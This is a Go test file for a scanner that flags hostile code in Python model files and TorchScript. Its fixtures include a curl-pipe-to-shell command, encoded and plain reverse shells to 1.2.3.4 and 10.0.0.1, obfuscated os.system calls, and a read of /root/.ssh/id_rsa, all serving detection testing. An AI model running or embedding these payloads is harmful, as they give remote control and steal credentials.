package pysrc

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"strings"
	"testing"
)

const benignModeling = `import torch
from transformers import PreTrainedModel
from .configuration_custom import CustomConfig
import os.path as osp

class CustomModel(PreTrainedModel):
    config_class = CustomConfig
    def __init__(self, config):
        super().__init__(config)
        self.lin = torch.nn.Linear(4, 4)
        self.scale = config.hidden_size ** -0.5  # compile attention later
    def forward(self, x, eval=False):
        self.eval()
        y = torch.compile(self.lin)(x)
        return osp.join("a", "b"), y, {"role": "system"}, 'sys' + 'tem'

def download(url):
    import requests
    return requests.get(url)
`

func ruleSet(r *Result) map[string]bool {
	m := map[string]bool{}
	for _, i := range r.Issues {
		m[string(i.Rule)] = true
	}
	return m
}

func zb64(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func TestPython(t *testing.T) {
	r := Analyze(benignModeling, true)
	got := ruleSet(r)
	if got["python-sink-on-load"] || got["python-obfuscated-name"] || got["python-encoded-payload"] {
		t.Errorf("benign modeling code flagged: %+v", r.Issues)
	}
	if !got["python-sink-in-function"] {
		t.Errorf("requests.get in a helper not reported: %+v", r.Issues)
	}
	if len(r.RelImports) != 1 || r.RelImports[0] != ".configuration_custom" {
		t.Errorf("relative imports: %v", r.RelImports)
	}
	cases := []struct {
		name, src, rule string
	}{
		{"TopLevelOsSystem", "import os\nos.system('id')\n", "python-sink-on-load"},
		{"AliasedSubprocess", "import subprocess as sp\nsp.Popen(['sh'])\n", "python-sink-on-load"},
		{"FromImportAlias", "from os import system as s\ns('id')\n", "python-sink-on-load"},
		{"InInit", "import os\nclass M:\n    def __init__(self):\n        os.system('id')\n", "python-sink-on-load"},
		{"InClassBody", "import socket\nclass M:\n    s = socket.socket()\n", "python-sink-on-load"},
		{"InDecoratorArgument", "@register(__import__('os').system('id'))\ndef f():\n    pass\n", "python-sink-on-load"},
		{"ExecBase64", "import base64\nexec(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte("import os\nos.system('curl http://x | sh')\n")) + "'))\n", "python-encoded-payload"},
		{"ExecZlibBase64", "import zlib, base64\nexec(zlib.decompress(base64.b64decode(\"" + zb64("import socket,subprocess;s=socket.socket();s.connect(('1.2.3.4',9));subprocess.call(['/bin/sh','-i'])") + "\")))\n", "python-encoded-payload"},
		{"DunderImportConcat", "__import__('o' + 's').system('id')\n", "python-sink-on-load"},
		{"GetattrConcat", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "python-obfuscated-name"},
		{"ChrCodes", "f = getattr(__import__(chr(111)+chr(115)), chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))\n", "python-obfuscated-name"},
		{"Reversed", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "python-obfuscated-name"},
		{"BuiltinsLookup", "f = __builtins__['ex' + 'ec']\n", "python-obfuscated-name"},
		{"GetattrBuiltins", "import builtins\ngetattr(builtins, 'eval')('1')\n", "python-sink-on-load"},
		{"ReverseShellString", "CMD = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n", "python-suspicious-string"},
		{"HexPayload", "import binascii\nexec(bytes.fromhex('" + strings.Repeat("", 0) + hexOf("import os; os.system('id')  # padding padding padding") + "'))\n", "python-encoded-payload"},
		{"CharCodeList", "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109]))\n", "python-obfuscated-name"},
		{"Rot13", "import codecs\nf = getattr(__import__(codecs.decode('bf', 'rot13')), codecs.decode('flfgrz', 'rot13'))\n", "python-obfuscated-name"},
		{"Unterminated", "x = 'abc\n", "python-unparsable"},
		{"HelperOnly", "import subprocess\ndef run():\n    subprocess.run(['ls'])\n", "python-sink-in-function"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := Analyze(c.src, true)
			if !ruleSet(r)[c.rule] {
				t.Errorf("want %s, got %+v", c.rule, r.Issues)
			}
		})
	}
	// A script that is not imported on load is at most suspicious.
	if got := ruleSet(Analyze("import os\nos.system('make')\n", false)); got["python-sink-on-load"] || !got["python-sink-in-function"] {
		t.Errorf("unloaded script: %v", got)
	}
}

func hexOf(s string) string {
	const h = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(h[s[i]>>4])
		b.WriteByte(h[s[i]&15])
	}
	return b.String()
}

func FuzzAnalyze(f *testing.F) {
	f.Add(benignModeling)
	f.Add("exec(base64.b64decode('aW1wb3J0IG9z'))\nx = '''\n'''\n")
	f.Fuzz(func(t *testing.T, s string) { Analyze(s, true) })
}

func TestTorchScript(t *testing.T) {
	cases := []struct {
		name, src, want, not string
	}{
		{"Plain", "class Net(Module):\n  __parameters__ = []\n  training : bool\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n    _0 = ops.prim.RaiseException(\"x\", \"builtins.ValueError\")\n    return torch.relu(torch.add(x, 1))\n", "", "python-sink-on-load"},
		{"FromFileInSetstate", "class F(Module):\n  def __setstate__(self: __torch__.F,\n    state: Tuple[Tensor, bool]) -> NoneType:\n    _0 = torch.from_file(\"/etc/hostname\", False, 2, dtype=0)\n    self.w = _0\n    return None\n", "python-sink-on-load", ""},
		{"FromFileInForward", "class F(Module):\n  def forward(self: __torch__.F, x: Tensor) -> Tensor:\n    return torch.add(x, torch.from_file(\"/tmp/x\", True, 4, dtype=6))\n", "python-sink-in-function", "python-sink-on-load"},
		{"AtenFromFileInInit", "class C:\n  def __init__(self: __torch__.C) -> NoneType:\n    _0 = ops.aten.from_file(\"/root/.ssh/id_rsa\", False, 64)\n    return None\n", "python-sink-on-load", ""},
		{"CustomOp", "class C(Module):\n  def forward(self: __torch__.C, x: Tensor) -> Tensor:\n    return ops.aigis_test.scale(x)\n", "torchscript-custom-op", ""},
		{"TorchOpsCustom", "def f(x: Tensor) -> Tensor:\n  return torch.ops.evil.run(x)\n", "torchscript-custom-op", ""},
		{"CustomClass", "class C(Module):\n  ctx : __torch__.torch.classes.evilns.Context\n  def forward(self: __torch__.C, x: Tensor) -> Tensor:\n    return x\n", "torchscript-custom-class", ""},
		{"TorchvisionOp", "def f(b: Tensor, s: Tensor) -> Tensor:\n  return ops.torchvision.nms(b, s, 0.5)\n", "", "torchscript-custom-op"},
		{"QuantizedClass", "class C(Module):\n  _packed_params : __torch__.torch.classes.quantized.LinearPackedParamsBase\n", "", "torchscript-custom-class"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := ruleSet(AnalyzeOpts(c.src, Options{Loaded: true, TorchScript: true}))
			if c.want != "" && !got[c.want] {
				t.Errorf("want %s, got %v", c.want, got)
			}
			if c.not != "" && got[c.not] {
				t.Errorf("did not want %s, got %v", c.not, got)
			}
			if c.want == "" && len(got) > 0 {
				t.Errorf("want nothing, got %v", got)
			}
		})
	}
}

func TestLoadTimeFunctions(t *testing.T) {
	src := "import subprocess\n\ndef make(n):\n    subprocess.run(['echo', 'x'])\n    return n\n"
	if got := ruleSet(Analyze(src, true)); got["python-sink-on-load"] {
		t.Errorf("a helper nobody calls on load: %v", got)
	}
	if got := ruleSet(AnalyzeOpts(src, Options{Loaded: true, LoadTime: []string{"make"}})); !got["python-sink-on-load"] {
		t.Errorf("a function the pickle calls on load: %v", got)
	}
}
